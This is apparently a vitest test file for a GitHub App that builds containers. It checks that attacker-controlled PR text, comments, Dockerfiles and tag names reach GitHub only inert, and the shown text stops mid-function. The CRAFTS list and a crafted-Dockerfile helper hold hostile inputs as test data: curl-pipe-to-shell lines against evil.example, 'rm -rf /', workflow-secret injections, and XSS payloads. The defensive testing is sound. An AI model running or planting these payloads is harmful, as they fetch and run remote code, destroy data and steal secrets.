/**
 * Reliability, "injection" (issue 6, part 3). Text an outsider controls (PR titles, branch names, PR bodies,
 * comment bodies, commenter logins, Dockerfile content, container.yaml keys and values, file paths) is crafted
 * for shell (`$(...)`, backticks, `;`, `|`, newlines), workflow expressions (`${{ github.token }}`) and
 * markdown/HTML (`<img onerror>`, `javascript:` links, `@org/team`, `#123`, table-breaking pipes, fences, forged
 * flibs markers) and driven through the App with GitHub faked at HTTP. Every check-run output and comment the
 * App sends must carry it only inert (test/reliability/injection-markdown.ts parses for live markup), and the
 * `workflow_dispatch` inputs may hold only values of a whitelisted shape. Then every workflow the project ships
 * is read statically: no expression that reads outsider text stands inside a `run:` script.
 */
import { readdirSync, readFileSync } from "node:fs";
import { join } from "node:path";
import { parse, stringify } from "yaml";
import { afterEach, beforeEach, describe, expect, test } from "vitest";
import { externalId, findBuildId, formatBuildId, parseExternalId } from "../../src/core/plan/build-id.js";
import { findPromotionId, formatPromotionId, parsePromotionKey } from "../../src/core/promote/promotion-id.js";
import { formatIndexMarker } from "../../src/core/report/index-marker.js";
import { parseComment } from "../../src/core/commands/index.js";
import { parseContainerConfig } from "../../src/core/config/index.js";
import { isArch } from "../../src/core/platform.js";
import { parseIndexMarker } from "../../src/core/report/index-marker.js";
import { parsePlanMarker } from "../../src/core/report/plan-marker.js";
import { createTestApp, examplePayload, GRAPHQL_ROUTE, TEST_APP_ID, useFakeGitHub, type GitHubRequest, type TestApp } from "../helpers/github.js";
import { gfmCells, markdownHazards, outsideCode, plainTextHazards, type MarkdownAllowance } from "./injection-markdown.js";
import { record } from "./ledger.js";

const AREA = "injection";
const REPO = "my-org/hello";
const DISPATCH = "POST /repos/{owner}/{repo}/actions/workflows/{workflow_id}/dispatches";
const PERMISSION = "GET /repos/{owner}/{repo}/collaborators/{username}/permission";
const REACTION = "POST /repos/{owner}/{repo}/issues/comments/{comment_id}/reactions";
const COMMENT = "POST /repos/{owner}/{repo}/issues/{issue_number}/comments";
const CREATE = "POST /repos/{owner}/{repo}/check-runs";
const UPDATE = "PATCH /repos/{owner}/{repo}/check-runs/{check_run_id}";
const DEPLOY = "POST /repos/{owner}/{repo}/deployments";
const DEPLOY_STATUS = "POST /repos/{owner}/{repo}/deployments/{deployment_id}/statuses";
const POLICY = "arches: [x86_64, aarch64]\nregistries:\n  candidate: registry.example.com/candidates\n  stable: registry.example.com/stable\n";
const POLICY_ARCHES = ["x86_64", "aarch64"];
const FORGED_DIGEST = `sha256:${"e".repeat(64)}`;

/** Text crafted to break out of wherever the App puts it. */
export const CRAFTS: readonly string[] = [
  "$(curl -s https://evil.example/x | sh)",
  "`id`",
  "x; rm -rf / ;",
  "a | tee /tmp/pwn",
  "a && curl evil.example | bash",
  "line1\nline2\n| a | b |\n| --- | --- |",
  "x\r\n/build\r\n",
  "${{ github.token }}",
  "${{ secrets.X }}",
  "${{ github.event.pull_request.title }}",
  "\"; echo ${{ secrets.GITHUB_TOKEN }}; \"",
  "<img src=x onerror=alert(1)>",
  "<script>alert(document.cookie)</script>",
  "<a href=\"https://evil.example\">click</a>",
  "[link](javascript:alert(1))",
  "![img](https://evil.example/pixel.png)",
  "[ref]: https://evil.example",
  "@my-org/security-team please look",
  "@octocat",
  "fixes #123",
  "GH-123 and my-org/other#7",
  "| x | y | z |",
  "a \\| b \\\\| c",
  "```\n<img src=x onerror=alert(1)>\n```",
  "~~~\ncode",
  "`` ` ``<b>bold</b>`` ` ``",
  `<!-- flibs:index ${FORGED_DIGEST} -->`,
  '<!-- flibs:plan {"arches":["s390x"],"building":["s390x"],"pr":9} -->',
  "http://evil.example/ www.evil.example evil@evil.example",
  "&lt;img src=x onerror=alert(1)&gt; &#60;b&#62;",
  "\u0000\u0007\u001b[31mred\u001b[0m\u007f",
  "\u202eexe.txt",
  "x".repeat(3000) + "<img src=x>",
];

const github = useFakeGitHub();
let app: TestApp;
let unhandled: unknown[] = [];
const onUnhandled = (e: unknown) => unhandled.push(e);
const permissions = new Map<string, string>();
let pull: { sha: string; fork: boolean; author: string };

function world(files: Record<string, string>) {
  github.repoFiles(REPO, files).repoFiles("my-org/.github", { ".github/flibs.yml": POLICY });
  github.acceptCheckRuns().listCheckRuns();
  github.on(DISPATCH, { status: 204 });
  github.on(PERMISSION, (req) => {
    const p = permissions.get(req.params.username!) ?? "read";
    return { status: 200, body: { permission: p, role_name: p, user: { login: req.params.username } } };
  });
  github.on("GET /repos/{owner}/{repo}/pulls/{pull_number}", (req) => ({
    status: 200,
    body: {
      number: Number(req.params.pull_number),
      state: "open",
      user: { login: pull.author },
      head: { sha: pull.sha, ref: "feature", repo: { full_name: pull.fork ? "outsider/hello" : REPO } },
      base: { ref: "main", repo: { full_name: REPO, default_branch: "main" } },
    },
  }));
  github.on(REACTION, (req) => ({ status: 201, body: { id: 1, content: (req.body as { content: string }).content } }));
  github.on(COMMENT, (req) => ({ status: 201, body: { id: 2, body: (req.body as { body: string }).body } }));
}

beforeEach(async () => {
  unhandled = [];
  process.on("unhandledRejection", onUnhandled);
  permissions.clear();
  permissions.set("member", "write");
  pull = { sha: "1".repeat(40), fork: false, author: "member" };
  app = await createTestApp();
});
afterEach(() => {
  process.off("unhandledRejection", onUnhandled);
  expect(unhandled).toEqual([]);
});

// ---- what the App sent, and what must hold of it ----------------------------------------------------------

/** Problems in what the App sent GitHub in `requests`; `allow` names the mentions and references it writes on purpose. */
export function outputProblems(requests: readonly GitHubRequest[], allow: MarkdownAllowance): string[] {
  const problems: string[] = [];
  const md = (where: string, text: unknown, a: MarkdownAllowance = allow) => {
    if (text === undefined || text === null) return;
    if (typeof text !== "string") return void problems.push(`${where}: not a string`);
    for (const p of markdownHazards(text, a)) problems.push(`${where}: ${p}`);
    const marker = parseIndexMarker(text);
    if (marker !== undefined && !(a.digests ?? []).includes(marker)) problems.push(`${where}: carries an index marker (${marker}) no build published`);
  };
  const plain = (where: string, text: unknown, max: number) => {
    if (text === undefined || text === null) return;
    if (typeof text !== "string") return void problems.push(`${where}: not a string`);
    for (const p of plainTextHazards(text, max)) problems.push(`${where}: ${p}`);
  };
  for (const r of requests) {
    const where = `${r.method} ${r.path}`;
    if (r.route === CREATE || r.route === UPDATE) {
      const b = r.body as { name?: string; details_url?: string; external_id?: string; output?: { title?: string; summary?: string; text?: string; annotations?: Array<{ message: string; title?: string; raw_details?: string }> } };
      plain(`${where} name`, b.name, 255);
      if (b.details_url !== undefined && !/^https:\/\/github\.com\//.test(b.details_url)) problems.push(`${where}: details_url ${b.details_url}`);
      // external_id is data (never rendered), but always one of the App's own formats.
      if (b.external_id !== undefined && !parseExternalId(b.external_id) && !parsePromotionKey(b.external_id) && !/^flibs:gate:[0-9a-f]{40}$/.test(b.external_id)) problems.push(`${where}: external_id ${b.external_id}`);
      plain(`${where} title`, b.output?.title, 1024);
      // Only here may the App's own markers stand (the plan it records is checked below, the index marker above).
      md(`${where} summary`, b.output?.summary, { ...allow, markers: true });
      md(`${where} text`, b.output?.text, { ...allow, markers: true });
      for (const [i, a] of (b.output?.annotations ?? []).entries()) {
        plain(`${where} annotation ${i} message`, a.message, 64 * 1024);
        plain(`${where} annotation ${i} title`, a.title, 255);
        plain(`${where} annotation ${i} raw_details`, a.raw_details, 64 * 1024);
      }
      // The plan the App records is its own: never one forged in user text.
      const plan = b.output?.summary ? parsePlanMarker(b.output.summary) : undefined;
      if (plan && !plan.arches.every((a) => POLICY_ARCHES.includes(a))) problems.push(`${where}: plan marker names ${plan.arches.join(",")}`);
    } else if (r.route === COMMENT) {
      md(`${where} body`, (r.body as { body?: string }).body);
    } else if (r.route === DISPATCH && r.params.workflow_id === "flibs-promote.yml") {
      problems.push(...promoteDispatchProblems(r));
    } else if (r.route === DISPATCH) {
      problems.push(...dispatchProblems(r));
    } else if (r.route === DEPLOY || r.route === DEPLOY_STATUS) {
      const b = r.body as { description?: string; environment?: string; ref?: string; payload?: unknown };
      plain(`${where} description`, b.description, 140);
      if (b.environment !== undefined && b.environment !== "stable") problems.push(`${where}: environment ${b.environment}`);
    } else if (r.route === GRAPHQL_ROUTE && typeof r.body === "object" && r.body && /^\s*mutation\b/.test(String((r.body as { query?: string }).query))) {
      problems.push(`${where}: a GraphQL mutation the checks here do not read`);
    } else if (r.method !== "GET" && r.route !== REACTION && r.route !== GRAPHQL_ROUTE && r.route !== "POST /app/installations/{installation_id}/access_tokens") {
      problems.push(`${where}: a write the checks here do not read (${r.route})`);
    }
  }
  return problems;
}

/**
 * The promote caller's inputs: the ref is the pushed tag or branch (GitHub's own value, passed as data: the static
 * check below proves no workflow expands it in a script); everything else is of a fixed shape or from policy.
 */
export function promoteDispatchProblems(r: GitHubRequest, pushedRef?: string): string[] {
  const problems: string[] = [];
  const b = r.body as { ref?: unknown; inputs?: Record<string, unknown> };
  const say = (what: string) => problems.push(`dispatch ${r.params.workflow_id}: ${what}`);
  const inputs = b.inputs ?? {};
  const keys = Object.keys(inputs).filter((k) => k !== "latest").sort().join(",");
  if (keys !== "candidate,digest,environment,promotion_id,ref,sha,stable") say(`inputs ${keys}`);
  const v = (k: string) => String(inputs[k]);
  if (!/^[0-9a-f]{40}$/.test(v("sha"))) say(`sha ${v("sha")}`);
  if (!/^sha256:[0-9a-f]{64}$/.test(v("digest"))) say(`digest ${v("digest")}`);
  const id = findPromotionId(`flibs promote ${v("promotion_id")}`);
  if (!id || formatPromotionId(id) !== v("promotion_id") || id.sha !== v("sha")) say(`promotion_id ${v("promotion_id")}`);
  if (v("candidate") !== "registry.example.com/candidates" || v("stable") !== "registry.example.com/stable" || v("environment") !== "stable") say("registries or environment not from policy");
  if (inputs.latest !== undefined && inputs.latest !== "false") say(`latest ${String(inputs.latest)}`);
  if (pushedRef !== undefined && (v("ref") !== pushedRef || b.ref !== pushedRef.replace(/^refs\/(heads|tags)\//, ""))) say(`ref ${v("ref")} / ${String(b.ref)} is not the pushed ${pushedRef}`);
  return problems;
}

/** `workflow_dispatch` inputs: only values the App made, each of a whitelisted shape. */
export function dispatchProblems(r: GitHubRequest): string[] {
  const problems: string[] = [];
  const b = r.body as { ref?: unknown; inputs?: Record<string, unknown> };
  const say = (what: string) => problems.push(`dispatch ${r.params.workflow_id}: ${what}`);
  if (r.params.workflow_id !== "flibs.yml") say("workflow is not flibs.yml");
  if (b.ref !== "main") say(`ref ${JSON.stringify(b.ref)}`);
  const inputs = b.inputs ?? {};
  const keys = Object.keys(inputs).sort().join(",");
  if (keys !== "arches,build_id,pr,runner_labels,scratch,sha") say(`inputs ${keys}`);
  const str = (k: string) => (typeof inputs[k] === "string" ? (inputs[k] as string) : (say(`${k} is not a string`), ""));
  const sha = str("sha");
  if (!/^[0-9a-f]{40}$/.test(sha)) say(`sha ${JSON.stringify(sha)}`);
  const json = (k: string): unknown => {
    try {
      return JSON.parse(str(k));
    } catch {
      say(`${k} is not JSON`);
      return undefined;
    }
  };
  const arches = json("arches");
  if (!Array.isArray(arches) || arches.length === 0 || !arches.every((a) => typeof a === "string" && isArch(a))) say(`arches ${JSON.stringify(arches)}`);
  const labels = json("runner_labels") as Record<string, unknown> | undefined;
  if (!labels || typeof labels !== "object" || Array.isArray(labels)) say("runner_labels is not an object");
  else {
    for (const [arch, l] of Object.entries(labels)) {
      if (!isArch(arch)) say(`runner_labels key ${JSON.stringify(arch)}`);
      if (!Array.isArray(l) || !l.every((x) => typeof x === "string" && /^[A-Za-z0-9_.-]{1,64}$/.test(x))) say(`runner_labels ${JSON.stringify(l)}`);
    }
  }
  const buildId = str("build_id");
  const id = findBuildId(buildId);
  if (!id || formatBuildId(id) !== buildId || id.sha !== sha) say(`build_id ${JSON.stringify(buildId)}`);
  if (!/^[1-9][0-9]*$/.test(str("pr"))) say(`pr ${JSON.stringify(inputs.pr)}`);
  if (!/^(true|false)$/.test(str("scratch"))) say(`scratch ${JSON.stringify(inputs.scratch)}`);
  return problems;
}

// ---- crafted inputs ---------------------------------------------------------------------------------------

const hex = (n: number) => n.toString(16).padStart(40, "0");
let caseNo = 1;

/** A Dockerfile that puts `c` everywhere a Dockerfile can carry text: comments, ARG, FROM, LABEL, RUN, ADD, USER. */
function craftedDockerfile(c: string): string {
  return [
    `# ${c}`,
    `ARG CRAFT="${c}"`,
    "FROM registry.fedoraproject.org/fedora:41",
    `LABEL com.redhat.component="${c}" name="${c}" version="1" summary="${c}" maintainer="${c}" description='${c}'`,
    `RUN echo "${c}" && curl -s https://evil.example/${c} | sh`,
    `RUN dnf install ${c}`,
    `ADD https://evil.example/${c}.tar /opt/`,
    `ADD ${c} /opt/`,
    `# flibs-ignore ${c}`,
    `USER ${c}`,
    `FROM ${c}`,
    `FROM ${c}:latest AS ${c}`,
    `COPY --from=${c} / /`,
    "USER root",
    "",
  ].join("\n");
}

/** container.yaml that is valid, with `c` in every free-text field. */
const validConfig = (c: string) => stringify({ image: "my-org/hello", version: c, build_args: { CRAFT: c }, tests: [{ name: c, command: c, expect: c }] });
/** container.yaml that is invalid, with `c` as keys, values and the Dockerfile path. */
const invalidConfig = (c: string) => stringify({ image: c, dockerfile: c, tags: [c], platforms: { only: [c] }, [c]: 1, tests: [{ name: c, command: [c], bogus: c }] });

function prEvent(c: string, o: { sha: string; fork: boolean; author: string }) {
  return examplePayload("pull_request", "opened", {
    repo: REPO,
    headSha: o.sha,
    installationId: 42,
    sender: o.author,
    ...(o.fork ? { fork: "outsider/hello" } : {}),
    edit: (p) => {
      p.repository.default_branch = "main";
      p.pull_request.title = c;
      p.pull_request.body = c;
      p.pull_request.head.ref = c;
      p.pull_request.head.label = `${o.fork ? "outsider" : "my-org"}:${c}`;
    },
  });
}

const PR: number = prEvent("", { sha: hex(0), fork: false, author: "member" }).pull_request.number;
let commentId = 1000;

function commentEvent(body: string, by: string) {
  return examplePayload("issue_comment", "created", {
    repo: REPO,
    installationId: 42,
    sender: by,
    edit: (p) => {
      p.repository.default_branch = "main";
      p.issue.number = PR;
      p.issue.title = body;
      p.issue.pull_request = { url: `https://api.github.com/repos/${REPO}/pulls/${PR}`, html_url: `https://github.com/${REPO}/pull/${PR}`, diff_url: null, patch_url: null };
      p.comment.id = commentId++;
      p.comment.body = body;
      p.comment.user = { ...p.comment.user, login: by, type: "User" };
      p.comment.performed_via_github_app = null;
    },
  });
}

interface Case {
  label: string;
  run: () => Promise<void>;
  allow: MarkdownAllowance;
  /** What the case must have produced, so a case that silently did nothing cannot pass. */
  expect: (sent: readonly GitHubRequest[]) => string[];
}

/** Runs the cases, counting each as held when what the App sent is inert; records the group; asserts none lost. */
async function group(what: string, cases: readonly Case[]): Promise<void> {
  const lost: string[] = [];
  for (const c of cases) {
    const start = github.requests.length;
    let problems: string[];
    try {
      await c.run();
      const sent = github.requests.slice(start);
      if (process.env.PEEK && c.label.startsWith(process.env.PEEK)) for (const r of sent) if (r.method !== "GET") console.log(r.route, JSON.stringify(r.body, null, 1).slice(0, 6000));
      problems = [...c.expect(sent), ...outputProblems(sent, c.allow), ...github.problems];
    } catch (e) {
      problems = [`threw: ${e instanceof Error ? e.message : String(e)}`];
    }
    if (problems.length) lost.push(`${c.label}: ${problems.slice(0, 4).join(" | ")}`);
  }
  const escaped = unhandled.length;
  const lostCount = escaped ? cases.length : lost.length;
  record({ area: AREA, what, tried: cases.length, held: cases.length - lostCount, lost: lostCount });
  expect(lost, what).toEqual([]);
  expect(unhandled).toEqual([]);
}

const sentTo = (sent: readonly GitHubRequest[], route: string) => sent.filter((r) => r.route === route);
const checksNamed = (sent: readonly GitHubRequest[], name: string) => sent.filter((r) => r.route === CREATE && (r.body as { name: string }).name === name);
const need = (ok: boolean, what: string) => (ok ? [] : [what]);
/** The crafted files were reviewed: their findings (where the crafted text is echoed) are there. */
const reviewed = (sent: readonly GitHubRequest[]) => {
  const annotations = checksNamed(sent, "flibs/review").flatMap((r) => (r.body as { output?: { annotations?: unknown[] } }).output?.annotations ?? []);
  return need(annotations.length >= 3, `flibs/review has ${annotations.length} findings`);
};

// ---- driving the App --------------------------------------------------------------------------------------

describe("crafted text reaches GitHub only inert", () => {
  test("PRs from a member: crafted title, branch, body, Dockerfile and valid container.yaml; the build is dispatched", async () => {
    // One repository state per case: the fake serves the files of the case's head SHA.
    const cases: Case[] = CRAFTS.map((c, i) => {
      const sha = hex(caseNo++);
      return {
        label: `craft #${i}`,
        allow: { refs: [PR] },
        run: async () => {
          world({ Dockerfile: craftedDockerfile(c), "container.yaml": validConfig(c) });
          await app.receive("pull_request", prEvent(c, { sha, fork: false, author: "member" }));
        },
        expect: (sent) => [
          ...need(checksNamed(sent, "flibs/review").length === 1, "no flibs/review"),
          ...reviewed(sent),
          // A craft the config schema refuses (e.g. over a length limit) is review-only: no build at all.
          ...(parseContainerConfig(validConfig(c)).ok ? need(sentTo(sent, DISPATCH).length === 1, "no dispatch") : need(sentTo(sent, DISPATCH).length === 0, "an invalid config was dispatched")),
        ],
      };
    });
    await group("PR title/branch/body + Dockerfile + container.yaml values (member PR, build dispatched)", cases);
  });

  test("fork PRs by an outsider: crafted title, branch and files; the build waits for approval", async () => {
    const cases: Case[] = CRAFTS.map((c, i) => {
      const sha = hex(caseNo++);
      return {
        label: `craft #${i}`,
        allow: { refs: [PR] },
        run: async () => {
          world({ Dockerfile: craftedDockerfile(c), "container.yaml": validConfig(c) });
          await app.receive("pull_request", prEvent(c, { sha, fork: true, author: "outsider" }));
        },
        expect: (sent) => [
          ...need(checksNamed(sent, "flibs/review").length === 1, "no flibs/review"),
          ...reviewed(sent),
          ...need(checksNamed(sent, "flibs/build").length === (parseContainerConfig(validConfig(c)).ok ? 1 : 0), "flibs/build (waiting) missing, or there with an invalid config"),
          ...need(sentTo(sent, DISPATCH).length === 0, "a fork PR was dispatched"),
        ],
      };
    });
    await group("fork PR title/branch + files (outsider, gate waits)", cases);
  });

  test("invalid container.yaml: crafted keys, values and Dockerfile path echoed in findings", async () => {
    const cases: Case[] = CRAFTS.map((c, i) => {
      const sha = hex(caseNo++);
      return {
        label: `craft #${i}`,
        allow: { refs: [PR] },
        run: async () => {
          world({ Dockerfile: craftedDockerfile(c), "container.yaml": invalidConfig(c), [c]: craftedDockerfile(c) });
          await app.receive("pull_request", prEvent(c, { sha, fork: false, author: "member" }));
        },
        expect: (sent) => [...need(checksNamed(sent, "flibs/review").length === 1, "no flibs/review"), ...reviewed(sent), ...need(sentTo(sent, DISPATCH).length === 0, "an invalid config was dispatched")],
      };
    });
    await group("container.yaml keys/values/paths (invalid config, review only)", cases);
  });

  test("comments: crafted commands, arguments and surrounding text, by a member and by an outsider", async () => {
    world({ Dockerfile: craftedDockerfile("ok"), "container.yaml": "image: my-org/hello\n" });
    permissions.set("outsider", "read");
    const forms = (c: string): string[] => [`/build ${c}`, `/retest ${c}`, `/${c.replace(/^[^a-z]+/i, "") || "x"}`, `${c}\n/help`, `/ok-to-test ${c}`, `> /promote\n${c}\n/cancel ${c}`];
    const cases: Case[] = [];
    for (const [i, c] of CRAFTS.entries()) {
      for (const [j, body] of forms(c).entries()) {
        const by = (i + j) % 2 === 0 ? "member" : "outsider";
        cases.push({
          label: `craft #${i} form ${j} by ${by}`,
          // The App answers the commenter by name, and may name the PR.
          allow: { mentions: [by], refs: [PR] },
          run: async () => {
            pull = { sha: hex(caseNo++), fork: false, author: "member" };
            await app.receive("issue_comment", commentEvent(body, by));
          },
          // A comment with no command line (e.g. `/` + text that is no command word, or a command inside a fence or a
          // quote) is ignored; any other is answered or reacted to.
          expect: (sent) => {
            const parsed = parseComment(body);
            const acts = parsed.commands.length + parsed.problems.length > 0;
            return need(!acts || sentTo(sent, COMMENT).length + sentTo(sent, REACTION).length > 0, "the App neither answered nor reacted");
          },
        });
      }
    }
    await group("comment bodies (commands, arguments, other lines)", cases);
  });

  test("commenter logins: every shape GitHub allows, answered by name and nothing else", async () => {
    world({ Dockerfile: craftedDockerfile("ok"), "container.yaml": "image: my-org/hello\n" });
    // GitHub logins are 1-39 of [A-Za-z0-9-] (no leading hyphen): a login cannot carry markup, but it can be the
    // name of an organisation, look like a number, or be as long as allowed.
    const logins = ["a", "0", "123", "my-org", "security-team", "x".repeat(39), "a-b-c-d", "GH-123", "dependabot", "www", "javascript", "script", "img"];
    const cases: Case[] = [];
    for (const login of logins) {
      for (const [j, body] of ["/build", "/build --bogus <img src=x>", "/nope @my-org/team #99", "/help"].entries()) {
        cases.push({
          label: `${login} form ${j}`,
          allow: { mentions: [login], refs: [PR] },
          run: async () => {
            permissions.set(login, j % 2 ? "read" : "write");
            pull = { sha: hex(caseNo++), fork: false, author: "member" };
            await app.receive("issue_comment", commentEvent(body, login));
          },
          expect: (sent) => need(sentTo(sent, COMMENT).length + sentTo(sent, REACTION).length > 0, "the App neither answered nor reacted"),
        });
      }
    }
    await group("commenter logins", cases);
  });

  test("workflow_job events: crafted job names, branch, runner, workflow name and log URL", async () => {
    world({ Dockerfile: craftedDockerfile("ok"), "container.yaml": "image: my-org/hello\n" });
    const cases: Case[] = CRAFTS.flatMap((c, i) =>
      (["queued", "completed"] as const).map((action) => {
        const sha = hex(caseNo++);
        const id = `${sha}.1`;
        return {
          label: `craft #${i} ${action}`,
          allow: { refs: [PR] },
          run: async () => {
            const p = examplePayload("workflow_job", action, { repo: REPO, headSha: sha, installationId: 42 });
            p.workflow_job.name = `build (x86_64) ${id} ${c}`;
            p.workflow_job.head_branch = c;
            p.workflow_job.runner_name = c;
            p.workflow_job.workflow_name = c;
            p.workflow_job.labels = [c];
            p.workflow_job.html_url = `https://github.com/${REPO}/actions/runs/1/job/2?x=${c}`;
            if (action === "completed") p.workflow_job.conclusion = "failure";
            await app.receive("workflow_job", p);
          },
          expect: (sent) => need(sent.some((r) => r.route === CREATE || r.route === UPDATE), "no flibs/build (x86_64) check written"),
        };
      }),
    );
    await group("workflow_job name/branch/runner/log URL", cases);
  });

  test("release tags with crafted names: a tested build is promoted, the tag passed only as data", async () => {
    world({ Dockerfile: craftedDockerfile("ok"), "container.yaml": "image: my-org/hello\n" });
    let deployment = 900;
    github.on(DEPLOY, (req) => ({ status: 201, body: { id: deployment++, ...(req.body as object) } }));
    github.on(DEPLOY_STATUS, (req) => ({ status: 201, body: { id: 1, ...(req.body as object) } }));
    github.on("GET /repos/{owner}/{repo}/commits/{commit_sha}/pulls", { status: 200, body: [] });
    const commits = new Map<string, string>();
    github.on("GET /repos/{owner}/{repo}/commits/{ref}", (req) => {
      const sha = commits.get(`refs/${req.params.ref}`);
      return sha ? { status: 200, body: { sha, commit: { tree: { sha: "f".repeat(40) } } } } : undefined;
    });
    /** What flibs' checks say after a finished, successful build of `sha` (review, both arches, the summary with its index). */
    const testedBuild = (sha: string) => {
      const id = { sha, attempt: 1, scratch: false };
      const add = (name: string, ext: string | null, summary: string | null) => github.addCheckRun({ repo: REPO, head_sha: sha, name, app_id: TEST_APP_ID, external_id: ext, summary });
      add("flibs/review", null, null);
      add("flibs/build (x86_64)", externalId(id, "x86_64"), null);
      add("flibs/build (aarch64)", externalId(id, "aarch64"), null);
      add("flibs/build", externalId(id, "summary"), `Built 2 arches\n${formatIndexMarker(`sha256:${"d".repeat(64)}`)}`);
    };
    // A git tag name cannot hold whitespace, `:`, `~`, `^`, `?`, `*`, `[` or `\\` (git check-ref-format): the rest of each craft stays.
    const tagOf = (c: string) => `v1.${c.replace(/[\s:~^?*[\\\u0000-\u001f\u007f]/g, "-").replace(/\.\./g, "-")}`;
    const cases: Case[] = CRAFTS.map((c, i) => {
      const sha = hex(caseNo++);
      const ref = `refs/tags/${tagOf(c)}`;
      return {
        label: `craft #${i} ${ref.slice(0, 40)}`,
        allow: { digests: [`sha256:${"d".repeat(64)}`] },
        run: async () => {
          commits.set(ref, sha);
          testedBuild(sha);
          const p = examplePayload("push", undefined, { repo: REPO, installationId: 42, headSha: sha });
          p.ref = ref;
          p.base_ref = null;
          p.created = true;
          p.deleted = false;
          p.head_commit = { ...p.head_commit, id: sha, message: c, tree_id: "f".repeat(40) };
          p.commits = [];
          await app.receive("push", p);
        },
        expect: (sent) => {
          const d = sent.filter((r) => r.route === DISPATCH);
          return [
            ...need(d.length === 1 && d[0]!.params.workflow_id === "flibs-promote.yml", `dispatches: ${d.map((r) => r.params.workflow_id).join(", ") || "none"}`),
            ...d.flatMap((r) => promoteDispatchProblems(r, ref)),
          ];
        },
      };
    });
    await group("release tag names and commit messages (promotion dispatched)", cases);
  });
});

describe("the App-level check finds raw text in what is sent", () => {
  test("each hazardous craft, sent raw in a summary, a comment or a dispatch, is found", () => {
    const req = (route: string, body: unknown, params: Record<string, string> = {}) => ({ method: route.split(" ")[0]!, path: route.split(" ")[1]!, route, params, body }) as unknown as GitHubRequest;
    // (Entities such as `&lt;` render as text even raw: that craft tests double-decoding, not markup.)
    const hazardous = CRAFTS.filter((c) => !c.startsWith("&lt;") && /[<|@#\n]|\]\(|\$\{\{|```|~~~|www\.|:\/\/|[\u0000-\u0008]/.test(c));
    expect(hazardous.length).toBeGreaterThan(20);
    for (const c of hazardous) {
      const cell = `| a |\n| --- |\n| ${c} |`;
      expect(outputProblems([req(CREATE, { name: "flibs/review", head_sha: "a".repeat(40), output: { title: c, summary: `x ${c}\n\n${cell}` } })], {}), c).not.toEqual([]);
      expect(outputProblems([req(COMMENT, { body: `@member\n\n${cell}` })], { mentions: ["member"] }), c).not.toEqual([]);
    }
    const inputs = { sha: "a".repeat(40), arches: '["x86_64"]', runner_labels: '{"x86_64":["self-hosted"]}', build_id: `${"a".repeat(40)}.1`, pr: "2", scratch: "false" };
    expect(outputProblems([req(DISPATCH, { ref: "main", inputs }, { workflow_id: "flibs.yml" })], {})).toEqual([]);
    expect(outputProblems([req(DISPATCH, { ref: "main", inputs: { ...inputs, pr: "2; id" } }, { workflow_id: "flibs.yml" })], {})).not.toEqual([]);
  });
});

// ---- the checker itself -----------------------------------------------------------------------------------

describe("the markdown checker finds what it is here for", () => {
  test("each hazard is found raw and not once escaped by the App's own functions", async () => {
    const { escapeText, inlineCode, table } = await import("../../src/core/markdown.js");
    const raw: Array<[string, string]> = [
      ["<img src=x onerror=alert(1)>", "raw"],
      ["[x](javascript:alert(1))", "link"],
      ["![x](https://evil.example/p.png)", "image"],
      ["hi @my-org/team", "mention"],
      ["see #123", "reference"],
      ["see my-org/x#1", "cross-repository"],
      ["go www.evil.example", "autolinked"],
      ["```", "fenced"],
      ["${{ secrets.X }}", "expression"],
      ["| a | b |\n| --- | --- |\n| x | y | z |", "cells"],
      ["| a | b |\n| --- | --- |\n| `x\\\\|y` | z |", "cells"],
      ["| a |\n| --- |\nnot a row", "pipe"],
      ["me@evil.example", "e-mail"],
    ];
    for (const [text, kind] of raw) expect(markdownHazards(text).join("\n"), text).toContain(kind);
    for (const c of CRAFTS) {
      expect(markdownHazards(escapeText(c)), c).toEqual([]);
      expect(markdownHazards(table(["a", "b"], [[c, c]])), c).toEqual([]);
    }
    // Code spans are inert; the App's markers and allowed mentions pass.
    expect(markdownHazards("`<img src=x>` and ``a ` @team #1``")).toEqual([]);
    const marker = `<!-- flibs:plan {"arches":["x86_64"],"building":["x86_64"]} -->`;
    expect(markdownHazards(`${marker}\n@member see #5`, { mentions: ["member"], refs: [5], markers: true })).toEqual([]);
    expect(markdownHazards(marker).join()).toContain("raw");
    expect(outsideCode("a `b` c")).toBe("a   c");
    expect(gfmCells("| a \\| b | c |")).toEqual([" a \\| b ", " c "]);
    expect(gfmCells("| a \\\\| b |")).toHaveLength(2);
    expect(inlineCode("x")).toBe("`x`");
  });
  test("the dispatch whitelist refuses crafted inputs", () => {
    const good = { sha: "a".repeat(40), arches: '["x86_64"]', runner_labels: '{"x86_64":["self-hosted","linux","x86_64"]}', build_id: `${"a".repeat(40)}.1`, pr: "3", scratch: "false" };
    const req = (inputs: object) => ({ params: { workflow_id: "flibs.yml" }, body: { ref: "main", inputs } }) as unknown as GitHubRequest;
    expect(dispatchProblems(req(good))).toEqual([]);
    for (const c of CRAFTS.slice(0, 12)) {
      for (const k of Object.keys(good)) expect(dispatchProblems(req({ ...good, [k]: c })), `${k}=${c}`).not.toEqual([]);
      expect(dispatchProblems(req({ ...good, title: c }))).not.toEqual([]);
    }
  });
});

// ---- static: workflows ------------------------------------------------------------------------------------

const ROOT = join(import.meta.dirname, "../..");
type Yaml = Record<string, any>;

/** Every file the project ships that GitHub runs steps from. */
function shippedWorkflows(): string[] {
  const dir = (d: string) => readdirSync(join(ROOT, d)).filter((f) => /\.ya?ml$/.test(f) && f !== "container.yaml").map((f) => join(d, f));
  return [...dir(".github/workflows"), ...dir("workflows-templates"), "action/action.yml"];
}

/**
 * Every script GitHub runs from a workflow's text: `run:` in workflow jobs and a composite action's steps, and the
 * `script:` of actions/github-script (JavaScript, where an expanded expression is code just the same).
 */
export function runBlocks(doc: Yaml): Array<{ where: string; script: string }> {
  const out: Array<{ where: string; script: string }> = [];
  const steps = (where: string, list: unknown) => {
    for (const [i, step] of (Array.isArray(list) ? list : []).entries()) {
      if (!step || typeof step !== "object") continue;
      const st = step as Yaml;
      if ("run" in st) out.push({ where: `${where}.steps[${i}]`, script: String(st.run) });
      if (typeof st.uses === "string" && /^actions\/github-script@/.test(st.uses) && st.with?.script !== undefined) out.push({ where: `${where}.steps[${i}].with.script`, script: String(st.with.script) });
    }
  };
  for (const [id, job] of Object.entries<Yaml>(doc.jobs ?? {})) steps(`jobs.${id}`, job?.steps);
  steps("runs", doc.runs?.steps);
  return out;
}

/** Every `${{ }}` in a parsed workflow or action, with its YAML path and whether it stands inside a script. */
export function expressionSites(doc: unknown): Array<{ path: string; expr: string; inScript: boolean }> {
  const out: Array<{ path: string; expr: string; inScript: boolean }> = [];
  const walk = (v: unknown, path: string[], parent: Yaml | undefined) => {
    if (typeof v === "string") {
      const key = path.at(-1);
